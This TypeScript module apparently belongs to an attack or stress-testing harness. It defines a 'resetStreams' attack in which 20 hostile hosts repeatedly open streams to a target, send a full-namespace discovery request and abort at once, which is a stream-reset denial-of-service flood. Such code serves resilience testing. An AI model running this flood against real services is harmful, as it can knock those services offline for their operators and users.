import type { Attack } from './attacks.ts'
import { createHostileHost, type HostileHost } from './hostile-host.ts'
import { openStream } from './open-stream.ts'
import { repeat } from './repeat.ts'
import { discoverOf, FULL_NAMESPACE } from './requests.ts'
import { sourceAddress } from './source-addresses.ts'

const PEERS = 20

export const resetStreams: Attack['run'] = async ({ point, tally, pace, onReady }) => {
  const hosts = await Promise.all(
    Array.from({ length: PEERS }, (_, index) => createHostileHost(point, sourceAddress(index)))
  )
  const request = discoverOf(FULL_NAMESPACE, 10)

  onReady()
  await repeat({ atATime: PEERS, pace }, async (index) => {
    const connection = await (hosts[index] as HostileHost).connect()

    while (connection.status === 'open') {
      await pace()

      const { stream, ask } = await openStream(connection)

      await ask(request).catch(() => {})
      stream.abort(new Error('has what it wants'))
      tally.add('requests')
    }
  })
}
